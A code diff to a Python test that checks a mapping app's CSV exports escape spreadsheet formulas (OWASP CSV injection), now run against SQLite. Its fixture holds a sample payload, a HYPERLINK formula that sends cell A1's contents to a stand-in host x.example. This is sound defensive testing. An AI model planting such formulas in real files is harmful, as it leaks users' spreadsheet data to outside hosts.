@@ -142,8 +142,17 @@ def test_public_url_not_the_host_header_makes_links(services):
         app.extensions["gridmap"].store.close()
 
 
-def test_csv_exports_escape_formulas(services, tmp_path):
-    """OWASP CSV injection: staff names like =HYPERLINK(...) and assign's pass-through columns are quoted."""
+def test_csv_exports_escape_formulas(tmp_path, sample_dir):
+    """OWASP CSV injection: staff names like =HYPERLINK(...) and assign's pass-through columns are quoted.
+
+    SQLite only: the escape is in the CSV writers, and the CLI leaves its store open (a PostGIS
+    connection would leak into the next test).
+    """
+    from gridmap.services import Services
+
+    from .conftest import load_sample
+
+    services = load_sample(Services.open(Settings(db=str(tmp_path / "csv.db")), create=True), sample_dir)
     staff = tmp_path / "evil.csv"
     staff.write_text("person_id,name,phone,unit_code,role\n"
                      f'P9,"=HYPERLINK(""http://x.example/?""&A1,""点我"")",13800000009,{GRIDS[0]},worker\n',
@@ -164,6 +173,7 @@ def test_csv_exports_escape_formulas(services, tmp_path):
     assert r.exit_code == 0, r.output
     got = list(csv.DictReader(io.StringIO(res.read_text(encoding="utf-8"))))
     assert [g["note"] for g in got] == ["'=1+1", "'@SUM(A1)", "-12.5"] and got[2]["lon"] == "-0.5"
+    services.store.close()
 
 
 def test_store_outages_do_not_show_the_database_path(tmp_path, sample_dir):
